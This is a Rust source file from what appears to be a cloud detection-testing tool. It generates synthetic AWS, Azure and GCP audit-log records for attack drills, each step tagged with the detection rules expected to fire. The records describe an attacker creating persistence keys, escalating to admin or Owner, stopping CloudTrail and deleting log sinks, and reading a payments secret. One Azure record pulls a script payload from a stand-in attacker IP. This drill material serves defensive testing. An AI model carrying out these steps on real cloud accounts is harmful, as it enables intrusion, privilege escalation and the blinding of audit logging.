//! Attack scenarios: the tabletop exercises teams run against their
//! responsibility map (a compromised access key, a storage bucket made
//! public, a network breach), written out for each cloud as the native
//! records the provider would log, step by step, with the detections a
//! well-covered estate is expected to raise at each step.
//!
//! The generator mixes them into background traffic (`attack_share`); the
//! drill replays one and reports which expected detections fired and which
//! did not.

use crate::event::Cloud;

use super::shape::{self, Actor, ActorKind, AwsCall, AzureOp, GcpCall};

/// The scenarios shipped with seamwatch.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum ScenarioKind {
    /// Long-term credentials leak; the attacker probes, persists, escalates
    /// and blinds logging.
    CompromisedKey,
    /// A storage bucket or container is opened to the internet.
    PublicBucket,
    /// Management ports opened to the internet, then a foothold on an instance.
    NetworkBreach,
}

impl ScenarioKind {
    pub const ALL: [ScenarioKind; 3] = [
        ScenarioKind::CompromisedKey,
        ScenarioKind::PublicBucket,
        ScenarioKind::NetworkBreach,
    ];

    pub fn name(self) -> &'static str {
        match self {
            ScenarioKind::CompromisedKey => "compromised-key",
            ScenarioKind::PublicBucket => "public-bucket",
            ScenarioKind::NetworkBreach => "network-breach",
        }
    }

    pub fn title(self) -> &'static str {
        match self {
            ScenarioKind::CompromisedKey => "A compromised access key",
            ScenarioKind::PublicBucket => "A storage bucket made public",
            ScenarioKind::NetworkBreach => "A network breach through an exposed management port",
        }
    }

    pub fn parse(text: &str) -> Option<ScenarioKind> {
        ScenarioKind::ALL.into_iter().find(|k| k.name() == text)
    }
}

/// One thing that happens, logged as one native record.
#[derive(Clone, Debug)]
pub struct Step {
    /// Event time.
    pub time_ms: i64,
    /// What happens, in the words of the exercise.
    pub action: String,
    pub cloud: Cloud,
    /// The Kafka key / archive folder: account, subscription or project.
    pub account: String,
    pub json: String,
    /// Rule and correlation ids a covered estate raises at this step.
    pub expect: Vec<&'static str>,
}

/// A scenario written out for one cloud.
#[derive(Clone, Debug)]
pub struct Scenario {
    pub kind: ScenarioKind,
    pub cloud: Cloud,
    pub steps: Vec<Step>,
    /// Detections expected only after time passes (absence rules), with the
    /// time by which they are due.
    pub expect_after: Vec<(&'static str, i64)>,
}

impl Scenario {
    /// Every detection the scenario expects, in step order.
    pub fn expected(&self) -> impl Iterator<Item = &'static str> + '_ {
        self.steps
            .iter()
            .flat_map(|s| s.expect.iter().copied())
            .chain(self.expect_after.iter().map(|(id, _)| *id))
    }

    /// The time by which every expectation is due.
    pub fn end_ms(&self) -> i64 {
        let last = self.steps.last().map_or(0, |s| s.time_ms);
        self.expect_after
            .iter()
            .map(|(_, t)| *t)
            .fold(last, i64::max)
    }
}

/// Where and when a scenario runs.
#[derive(Clone, Debug)]
pub struct Setting {
    pub account: String,
    pub start_ms: i64,
    /// Distinguishes runs: record ids and resource names derive from it.
    pub seed: u64,
}

impl Setting {
    /// The default account per cloud: the production payments estate of the
    /// bundled matrix, so a drill shows the high-tier owning team being paged.
    pub fn default_for(cloud: Cloud, start_ms: i64) -> Setting {
        let account = match cloud {
            Cloud::Aws => "111111111111",
            Cloud::Azure => "22222222-2222-2222-2222-222222222222",
            Cloud::Gcp => "payments-prod",
        };
        Setting {
            account: account.to_owned(),
            start_ms,
            seed: 1,
        }
    }
}

const ATTACKER_IP: &str = "203.0.113.66";
const ATTACKER_IP_2: &str = "198.51.100.213";
const MINUTE: i64 = 60_000;

struct Writer {
    cloud: Cloud,
    account: String,
    t0: i64,
    seq: u64,
    steps: Vec<Step>,
}

impl Writer {
    fn push(
        &mut self,
        at_s: i64,
        action: impl Into<String>,
        json: String,
        expect: &[&'static str],
    ) {
        self.steps.push(Step {
            time_ms: self.t0 + at_s * 1000,
            action: action.into(),
            cloud: self.cloud,
            account: self.account.clone(),
            json,
            expect: expect.to_vec(),
        });
    }

    fn next_seq(&mut self) -> u64 {
        self.seq += 1;
        self.seq
    }

    fn at(&self, at_s: i64) -> i64 {
        self.t0 + at_s * 1000
    }

    fn aws(&mut self, at_s: i64, actor: &Actor, call: AwsCall<'_>) -> String {
        let seq = self.next_seq();
        shape::aws(actor, self.at(at_s), seq, &call)
    }

    fn azure(&mut self, at_s: i64, actor: &Actor, op: AzureOp<'_>) -> String {
        let seq = self.next_seq();
        shape::azure(actor, self.at(at_s), seq, &op)
    }

    fn gcp(&mut self, at_s: i64, actor: &Actor, call: GcpCall<'_>) -> String {
        let seq = self.next_seq();
        shape::gcp(actor, self.at(at_s), seq, &call)
    }
}

fn actor(account: &str, name: &str, key: &str, ip: &str, ua: &str, kind: ActorKind) -> Actor {
    Actor {
        account: account.to_owned(),
        name: name.to_owned(),
        key: key.to_owned(),
        ip: ip.to_owned(),
        user_agent: ua.to_owned(),
        kind,
    }
}

/// Writes `kind` out for `cloud`.
pub fn build(kind: ScenarioKind, cloud: Cloud, setting: &Setting) -> Scenario {
    let mut w = Writer {
        cloud,
        account: setting.account.clone(),
        t0: setting.start_ms,
        seq: setting.seed.wrapping_mul(1_000_003) ^ (kind as u64) << 40 ^ (cloud as u64) << 48,
        steps: Vec::new(),
    };
    let mut expect_after = Vec::new();
    match (kind, cloud) {
        (ScenarioKind::CompromisedKey, Cloud::Aws) => {
            aws_compromised_key(&mut w, &mut expect_after)
        }
        (ScenarioKind::PublicBucket, Cloud::Aws) => aws_public_bucket(&mut w),
        (ScenarioKind::NetworkBreach, Cloud::Aws) => aws_network_breach(&mut w),
        (ScenarioKind::CompromisedKey, Cloud::Azure) => azure_compromised_key(&mut w),
        (ScenarioKind::PublicBucket, Cloud::Azure) => azure_public_bucket(&mut w),
        (ScenarioKind::NetworkBreach, Cloud::Azure) => azure_network_breach(&mut w),
        (ScenarioKind::CompromisedKey, Cloud::Gcp) => gcp_compromised_key(&mut w),
        (ScenarioKind::PublicBucket, Cloud::Gcp) => gcp_public_bucket(&mut w),
        (ScenarioKind::NetworkBreach, Cloud::Gcp) => gcp_network_breach(&mut w),
    }
    Scenario {
        kind,
        cloud,
        steps: w.steps,
        expect_after,
    }
}

fn aws_compromised_key(w: &mut Writer, after: &mut Vec<(&'static str, i64)>) {
    let a = w.account.clone();
    let ua = "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.kali.2024";
    let leaked = actor(
        &a,
        "ci-deployer",
        "AKIA5LEAKEDCIKEY0001",
        ATTACKER_IP,
        ua,
        ActorKind::User,
    );
    let json = w.aws(
        0,
        &leaked,
        AwsCall {
            source: "sts.amazonaws.com",
            name: "GetCallerIdentity",
            region: "us-east-1",
            params: "null",
            response: "null",
            error: None,
            read_only: true,
        },
    );
    w.push(
        0,
        "The attacker tries the leaked key of ci-deployer: who am I?",
        json,
        &[],
    );
    for (i, (source, name)) in [
        ("iam.amazonaws.com", "ListUsers"),
        ("iam.amazonaws.com", "ListRoles"),
        ("iam.amazonaws.com", "GetAccountAuthorizationDetails"),
        ("organizations.amazonaws.com", "ListAccounts"),
        ("secretsmanager.amazonaws.com", "ListSecrets"),
        ("kms.amazonaws.com", "ListKeys"),
    ]
    .into_iter()
    .enumerate()
    {
        let at = 20 + i as i64 * 7;
        let json = w.aws(at, &leaked, AwsCall {
            source, name, region: "us-east-1", params: "null", response: "null",
            error: Some(("AccessDenied", "User: arn:aws:iam::account:user/ci-deployer is not authorized to perform this action")),
            read_only: true,
        });
        w.push(at, format!("Enumeration, denied: {name}"), json, &[]);
    }
    let json = w.aws(120, &leaked, AwsCall {
        source: "iam.amazonaws.com", name: "CreateAccessKey", region: "us-east-1",
        params: r#"{"userName":"backup-admin"}"#,
        response: r#"{"accessKey":{"accessKeyId":"AKIA5PERSISTKEY00002","status":"Active","userName":"backup-admin","createDate":"Mar 1, 2025 10:02:00 AM"}}"#,
        error: None, read_only: false,
    });
    w.push(
        120,
        "Persistence: a new access key for backup-admin",
        json,
        &[
            "aws.identity.access_key_created_for_user",
            "correlation.denied_burst_then_privileged_success",
        ],
    );
    let persisted = actor(
        &a,
        "backup-admin",
        "AKIA5PERSISTKEY00002",
        ATTACKER_IP_2,
        ua,
        ActorKind::User,
    );
    let json = w.aws(
        240,
        &persisted,
        AwsCall {
            source: "s3.amazonaws.com",
            name: "ListBuckets",
            region: "us-east-1",
            params: r#"{"Host":"s3.amazonaws.com"}"#,
            response: "null",
            error: None,
            read_only: true,
        },
    );
    w.push(
        240,
        "The new key is used from another address",
        json,
        &["aws.correlation.new_access_key_used_from_new_ip"],
    );
    let json = w.aws(360, &persisted, AwsCall {
        source: "iam.amazonaws.com", name: "AttachUserPolicy", region: "us-east-1",
        params: r#"{"userName":"backup-admin","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}"#,
        response: "null", error: None, read_only: false,
    });
    w.push(
        360,
        "Privilege escalation: AdministratorAccess attached to backup-admin",
        json,
        &["aws.identity.admin_policy_attached"],
    );
    let json = w.aws(
        480,
        &persisted,
        AwsCall {
            source: "cloudtrail.amazonaws.com",
            name: "StopLogging",
            region: "us-east-1",
            params: r#"{"name":"arn:aws:cloudtrail:us-east-1:account:trail/org-trail"}"#,
            response: "null",
            error: None,
            read_only: false,
        },
    );
    w.push(
        480,
        "Defense evasion: the organization trail is stopped",
        json,
        &["aws.logging.cloudtrail_stopped"],
    );
    let json = w.aws(
        600,
        &persisted,
        AwsCall {
            source: "secretsmanager.amazonaws.com",
            name: "GetSecretValue",
            region: "us-east-1",
            params: r#"{"secretId":"prod/payments/db-password"}"#,
            response: "null",
            error: None,
            read_only: true,
        },
    );
    w.push(
        600,
        "Collection: the payments database password is read",
        json,
        &["aws.data.secret_read_by_iam_user"],
    );
    after.push((
        "aws.correlation.cloudtrail_not_restarted",
        w.at(480) + 15 * MINUTE,
    ));
}

fn aws_public_bucket(w: &mut Writer) {
    let a = w.account.clone();
    let dev = actor(
        &a,
        "dev-jane",
        "AKIA5DEVJANEKEY00003",
        "192.0.2.44",
        "aws-cli/2.15.30 Python/3.11.8 Darwin/23.4.0",
        ActorKind::User,
    );
    let bucket = "payments-exports";
    let json = w.aws(0, &dev, AwsCall {
        source: "s3.amazonaws.com", name: "DeleteBucketPublicAccessBlock", region: "us-east-1",
        params: &format!(r#"{{"bucketName":"{bucket}","Host":"{bucket}.s3.amazonaws.com","publicAccessBlock":""}}"#),
        response: "null", error: None, read_only: false,
    });
    w.push(
        0,
        "Block Public Access is removed from the bucket",
        json,
        &["aws.data.s3_bucket_public_access_block_removed"],
    );
    let policy = format!(
        r#"{{"bucketName":"{bucket}","Host":"{bucket}.s3.amazonaws.com","bucketPolicy":{{"Version":"2012-10-17","Statement":[{{"Sid":"Share","Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::{bucket}/*"}}]}},"policy":""}}"#
    );
    let json = w.aws(
        90,
        &dev,
        AwsCall {
            source: "s3.amazonaws.com",
            name: "PutBucketPolicy",
            region: "us-east-1",
            params: &policy,
            response: "null",
            error: None,
            read_only: false,
        },
    );
    w.push(
        90,
        "A bucket policy lets anyone read every object",
        json,
        &["aws.data.s3_bucket_policy_public"],
    );
    let json = w.aws(150, &dev, AwsCall {
        source: "s3.amazonaws.com", name: "PutBucketAcl", region: "us-east-1",
        params: &format!(r#"{{"bucketName":"{bucket}","Host":"{bucket}.s3.amazonaws.com","acl":"","x-amz-acl":"public-read"}}"#),
        response: "null", error: None, read_only: false,
    });
    w.push(
        150,
        "The bucket ACL is set to public-read",
        json,
        &["aws.data.s3_bucket_acl_public"],
    );
}

fn aws_network_breach(w: &mut Writer) {
    let a = w.account.clone();
    let ops = actor(
        &a,
        "ops-sam",
        "AKIA5OPSSAMKEY000004",
        "192.0.2.77",
        "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0",
        ActorKind::User,
    );
    let json = w.aws(0, &ops, AwsCall {
        source: "ec2.amazonaws.com", name: "AuthorizeSecurityGroupIngress", region: "eu-west-1",
        params: r#"{"groupId":"sg-0payments0web01","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":22,"toPort":22,"groups":{},"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0","description":"temp debug"}]},"ipv6Ranges":{},"prefixListIds":{}}]}}"#,
        response: r#"{"requestId":"3f2a","_return":true}"#, error: None, read_only: false,
    });
    w.push(
        0,
        "SSH is opened to the internet on the web tier's security group",
        json,
        &["aws.network.sg_ingress_open_to_internet"],
    );
    let json = w.aws(300, &ops, AwsCall {
        source: "ec2-instance-connect.amazonaws.com", name: "SendSSHPublicKey", region: "eu-west-1",
        params: r#"{"instanceId":"i-0payments0web0001","instanceOSUser":"ec2-user","sSHPublicKey":"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI"}"#,
        response: r#"{"requestId":"9c1d","success":true}"#, error: None, read_only: false,
    });
    w.push(
        300,
        "An SSH key is pushed to the instance",
        json,
        &["aws.compute.ec2_instance_connect_key_pushed"],
    );
    let role = actor(
        &a,
        "i-0payments0web0001",
        "ASIA5INSTANCEROLE005",
        ATTACKER_IP,
        "Boto3/1.34.0 Python/3.12.1 Linux/6.1",
        ActorKind::InstanceRole,
    );
    let json = w.aws(
        420,
        &role,
        AwsCall {
            source: "sts.amazonaws.com",
            name: "GetCallerIdentity",
            region: "eu-west-1",
            params: "null",
            response: "null",
            error: None,
            read_only: true,
        },
    );
    w.push(
        420,
        "The instance role's credentials are used from outside",
        json,
        &["aws.compute.instance_credentials_whoami"],
    );
    let json = w.aws(540, &role, AwsCall {
        source: "ec2.amazonaws.com", name: "DeleteFlowLogs", region: "eu-west-1",
        params: r#"{"DeleteFlowLogsRequest":{"FlowLogId":{"tag":1,"content":"fl-0payments0vpc01"}}}"#,
        response: "null", error: None, read_only: false,
    });
    w.push(
        540,
        "VPC flow logs are deleted",
        json,
        &["aws.logging.vpc_flow_logs_deleted"],
    );
}

const OWNER_ROLE: &str = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635";

fn azure_compromised_key(w: &mut Writer) {
    let a = w.account.clone();
    let sp = actor(
        &a,
        "ci-pipeline-sp",
        "",
        ATTACKER_IP,
        "python/3.11 azsdk-python-mgmt-authorization/4.0.0",
        ActorKind::Service,
    );
    for i in 0..6 {
        let at = i * 8;
        let json = w.azure(at, &sp, AzureOp {
            resource: "providers/Microsoft.Authorization/roleAssignments/7f0e0000-0000-4000-8000-00000000000a",
            operation: "Microsoft.Authorization/roleAssignments/write",
            result: "Failure", body: None, role: "Reader",
        });
        w.push(at, "A role assignment is attempted and refused", json, &[]);
    }
    let json = w.azure(90, &sp, AzureOp {
        resource: "resourceGroups/rg-payments/providers/Microsoft.Storage/storageAccounts/paymentsexports",
        operation: "Microsoft.Storage/storageAccounts/listKeys/action",
        result: "Success", body: None, role: "Contributor",
    });
    w.push(
        90,
        "The storage account keys are listed",
        json,
        &["azure.data.storage_account_keys_listed"],
    );
    let body = format!(
        r#"{{"properties":{{"roleDefinitionId":"/subscriptions/{a}/providers/Microsoft.Authorization/roleDefinitions/{OWNER_ROLE}","principalId":"5d1e0000-0000-4000-8000-0000000000ff","principalType":"ServicePrincipal"}}}}"#
    );
    let json = w.azure(180, &sp, AzureOp {
        resource: "providers/Microsoft.Authorization/roleAssignments/7f0e0000-0000-4000-8000-00000000000b",
        operation: "Microsoft.Authorization/roleAssignments/write",
        result: "Start", body: Some(&body), role: "User Access Administrator",
    });
    w.push(
        180,
        "Owner is granted on the subscription to an attacker-held principal",
        json,
        &[
            "azure.identity.privileged_role_assigned",
            "correlation.denied_burst_then_privileged_success",
        ],
    );
    let json = w.azure(300, &sp, AzureOp {
        resource: "resourceGroups/rg-payments/providers/Microsoft.ManagedIdentity/userAssignedIdentities/payments-api/federatedIdentityCredentials/gh-actions",
        operation: "Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials/write",
        result: "Success",
        body: None,
        role: "Owner",
    });
    w.push(
        300,
        "Persistence: a federated credential on a managed identity",
        json,
        &["azure.identity.managed_identity_federated_credential_added"],
    );
    let json = w.azure(
        420,
        &sp,
        AzureOp {
            resource: "providers/microsoft.insights/diagnosticSettings/to-sentinel",
            operation: "Microsoft.Insights/diagnosticSettings/delete",
            result: "Success",
            body: None,
            role: "Owner",
        },
    );
    w.push(
        420,
        "Defense evasion: the subscription's diagnostic setting is deleted",
        json,
        &["azure.logging.diagnostic_setting_deleted"],
    );
}

fn azure_public_bucket(w: &mut Writer) {
    let a = w.account.clone();
    let dev = actor(
        &a,
        "jane.doe@contoso.com",
        "",
        "192.0.2.44",
        "Mozilla/5.0 (Macintosh) AzurePortal",
        ActorKind::User,
    );
    let json = w.azure(0, &dev, AzureOp {
        resource: "resourceGroups/rg-payments/providers/Microsoft.Storage/storageAccounts/paymentsexports",
        operation: "Microsoft.Storage/storageAccounts/write",
        result: "Start",
        body: Some(r#"{"properties":{"allowBlobPublicAccess":true,"publicNetworkAccess":"Enabled","networkAcls":{"defaultAction":"Allow","bypass":"AzureServices"},"minimumTlsVersion":"TLS1_2"}}"#),
        role: "Contributor",
    });
    w.push(
        0,
        "The storage account allows anonymous blob access from all networks",
        json,
        &[
            "azure.data.storage_blob_public_access_allowed",
            "azure.data.storage_public_network_access",
        ],
    );
    let json = w.azure(120, &dev, AzureOp {
        resource: "resourceGroups/rg-payments/providers/Microsoft.Storage/storageAccounts/paymentsexports/blobServices/default/containers/exports",
        operation: "Microsoft.Storage/storageAccounts/blobServices/containers/write",
        result: "Start",
        body: Some(r#"{"properties":{"publicAccess":"Container"}}"#),
        role: "Contributor",
    });
    w.push(
        120,
        "The exports container is opened to anonymous listing and reads",
        json,
        &["azure.data.blob_container_made_public"],
    );
}

fn azure_network_breach(w: &mut Writer) {
    let a = w.account.clone();
    let ops = actor(
        &a,
        "sam.ops@contoso.com",
        "",
        "192.0.2.77",
        "Azure-CLI/2.58.0 (AZURECLI)",
        ActorKind::User,
    );
    let json = w.azure(0, &ops, AzureOp {
        resource: "resourceGroups/rg-payments/providers/Microsoft.Network/networkSecurityGroups/nsg-web/securityRules/allow-rdp",
        operation: "Microsoft.Network/networkSecurityGroups/securityRules/write",
        result: "Start",
        body: Some(r#"{"properties":{"protocol":"Tcp","sourcePortRange":"*","destinationPortRange":"3389","sourceAddressPrefix":"*","destinationAddressPrefix":"*","access":"Allow","priority":100,"direction":"Inbound"}}"#),
        role: "Network Contributor",
    });
    w.push(
        0,
        "RDP is opened to the internet on the web tier's NSG",
        json,
        &[
            "azure.network.nsg_rule_open_to_internet",
            "azure.network.nsg_management_port_open_to_internet",
        ],
    );
    let json = w.azure(360, &ops, AzureOp {
        resource: "resourceGroups/rg-payments/providers/Microsoft.Compute/virtualMachines/vm-web-01",
        operation: "Microsoft.Compute/virtualMachines/runCommand/action",
        result: "Success", body: None, role: "Virtual Machine Contributor",
    });
    w.push(
        360,
        "A command is run on the VM through Run Command",
        json,
        &["azure.compute.vm_run_command"],
    );
    let json = w.azure(480, &ops, AzureOp {
        resource: "resourceGroups/rg-payments/providers/Microsoft.Compute/virtualMachines/vm-web-01/extensions/CustomScriptExtension",
        operation: "Microsoft.Compute/virtualMachines/extensions/write",
        result: "Start",
        body: Some(r#"{"location":"westeurope","properties":{"publisher":"Microsoft.Compute","type":"CustomScriptExtension","typeHandlerVersion":"1.10","settings":{"fileUris":["https://203.0.113.66/a.ps1"]}}}"#),
        role: "Virtual Machine Contributor",
    });
    w.push(
        480,
        "A script extension installs a payload on the VM",
        json,
        &["azure.compute.vm_script_extension_installed"],
    );
}

fn gcp_compromised_key(w: &mut Writer) {
    let p = w.account.clone();
    let sa = actor(
        &p,
        &format!("ci-deployer@{p}.iam.gserviceaccount.com"),
        "",
        ATTACKER_IP,
        "google-api-python-client/2.120.0",
        ActorKind::Service,
    );
    let project = format!("projects/{p}");
    for i in 0..6 {
        let at = i * 8;
        let json = w.gcp(
            at,
            &sa,
            GcpCall {
                service: "cloudresourcemanager.googleapis.com",
                method: "GetIamPolicy",
                resource_name: &project,
                resource_type: "project",
                request: r#"{"@type":"type.googleapis.com/google.iam.v1.GetIamPolicyRequest"}"#,
                extra: "",
                error: Some((
                    7,
                    "Permission 'resourcemanager.projects.getIamPolicy' denied",
                )),
            },
        );
        w.push(
            at,
            "The project's IAM policy is requested and refused",
            json,
            &[],
        );
    }
    let json = w.gcp(90, &sa, GcpCall {
        service: "iam.googleapis.com", method: "google.iam.admin.v1.CreateServiceAccountKey",
        resource_name: &format!("projects/-/serviceAccounts/backup-runner@{p}.iam.gserviceaccount.com"),
        resource_type: "service_account",
        request: r#"{"@type":"type.googleapis.com/google.iam.admin.v1.CreateServiceAccountKeyRequest","private_key_type":2}"#,
        extra: "", error: None,
    });
    w.push(
        90,
        "Persistence: a key for the backup-runner service account",
        json,
        &[
            "gcp.identity.service_account_key_created",
            "correlation.denied_burst_then_privileged_success",
        ],
    );
    let json = w.gcp(200, &sa, GcpCall {
        service: "cloudresourcemanager.googleapis.com", method: "SetIamPolicy",
        resource_name: &project, resource_type: "project",
        request: r#"{"@type":"type.googleapis.com/google.iam.v1.SetIamPolicyRequest","policy":{"bindings":[{"role":"roles/owner","members":["user:attacker@example.net"]}]}}"#,
        extra: r#""serviceData":{"@type":"type.googleapis.com/google.iam.v1.logging.AuditData","policyDelta":{"bindingDeltas":[{"action":"ADD","role":"roles/owner","member":"user:attacker@example.net"}]}}"#,
        error: None,
    });
    w.push(
        200,
        "Owner is granted on the project to an outside account",
        json,
        &["gcp.identity.owner_or_editor_granted"],
    );
    let json = w.gcp(330, &sa, GcpCall {
        service: "logging.googleapis.com", method: "google.logging.v2.ConfigServiceV2.DeleteSink",
        resource_name: &format!("{project}/sinks/to-siem"), resource_type: "logging_sink",
        request: &format!(r#"{{"@type":"type.googleapis.com/google.logging.v2.DeleteSinkRequest","sinkName":"{project}/sinks/to-siem"}}"#),
        extra: "", error: None,
    });
    w.push(
        330,
        "Defense evasion: the log sink to the SIEM is deleted",
        json,
        &["gcp.logging.sink_deleted_or_disabled"],
    );
}

fn gcp_public_bucket(w: &mut Writer) {
    let p = w.account.clone();
    let dev = actor(
        &p,
        "jane.doe@example.com",
        "",
        "192.0.2.44",
        "google-cloud-sdk gcloud/470.0.0",
        ActorKind::User,
    );
    let bucket = "projects/_/buckets/payments-exports";
    let json = w.gcp(0, &dev, GcpCall {
        service: "storage.googleapis.com", method: "storage.buckets.update",
        resource_name: bucket, resource_type: "gcs_bucket",
        request: r#"{"@type":"type.googleapis.com/storage.buckets.update","iamConfiguration":{"publicAccessPrevention":"inherited","uniformBucketLevelAccess":{"enabled":true}}}"#,
        extra: "", error: None,
    });
    w.push(
        0,
        "Public access prevention is removed from the bucket",
        json,
        &["gcp.data.gcs_public_access_prevention_removed"],
    );
    let json = w.gcp(120, &dev, GcpCall {
        service: "storage.googleapis.com", method: "storage.setIamPermissions",
        resource_name: bucket, resource_type: "gcs_bucket", request: "",
        extra: r#""serviceData":{"@type":"type.googleapis.com/google.iam.v1.logging.AuditData","policyDelta":{"bindingDeltas":[{"action":"ADD","role":"roles/storage.objectViewer","member":"allUsers"}]}}"#,
        error: None,
    });
    w.push(
        120,
        "allUsers may read every object",
        json,
        &["gcp.data.gcs_bucket_made_public"],
    );
}

fn gcp_network_breach(w: &mut Writer) {
    let p = w.account.clone();
    let ops = actor(
        &p,
        "sam.ops@example.com",
        "",
        "192.0.2.77",
        "google-cloud-sdk gcloud/470.0.0",
        ActorKind::User,
    );
    let json = w.gcp(0, &ops, GcpCall {
        service: "compute.googleapis.com", method: "v1.compute.firewalls.insert",
        resource_name: &format!("projects/{p}/global/firewalls/allow-ssh-debug"), resource_type: "gce_firewall_rule",
        request: &format!(r#"{{"@type":"type.googleapis.com/compute.firewalls.insert","name":"allow-ssh-debug","network":"https://www.googleapis.com/compute/v1/projects/{p}/global/networks/default","direction":"INGRESS","priority":"1000","sourceRanges":["0.0.0.0/0"],"allowed":[{{"IPProtocol":"tcp","ports":["22"]}}]}}"#),
        extra: "", error: None,
    });
    w.push(
        0,
        "SSH is opened to the internet by a VPC firewall rule",
        json,
        &["gcp.network.firewall_ingress_open_to_internet"],
    );
    let json = w.gcp(300, &ops, GcpCall {
        service: "compute.googleapis.com", method: "v1.compute.instances.setMetadata",
        resource_name: &format!("projects/{p}/zones/europe-west1-b/instances/web-01"), resource_type: "gce_instance",
        request: r#"{"@type":"type.googleapis.com/compute.instances.setMetadata","Metadata Keys Added":["ssh-keys"]}"#,
        extra: "", error: None,
    });
    w.push(
        300,
        "An SSH key is added to the instance metadata",
        json,
        &["gcp.compute.ssh_keys_added_to_metadata"],
    );
    let json = w.gcp(420, &ops, GcpCall {
        service: "compute.googleapis.com", method: "v1.compute.instances.setMetadata",
        resource_name: &format!("projects/{p}/zones/europe-west1-b/instances/web-01"), resource_type: "gce_instance",
        request: r#"{"@type":"type.googleapis.com/compute.instances.setMetadata","Metadata Keys Added":["serial-port-enable"]}"#,
        extra: "", error: None,
    });
    w.push(
        420,
        "Interactive serial console access is enabled",
        json,
        &["gcp.compute.serial_port_access_enabled"],
    );
}
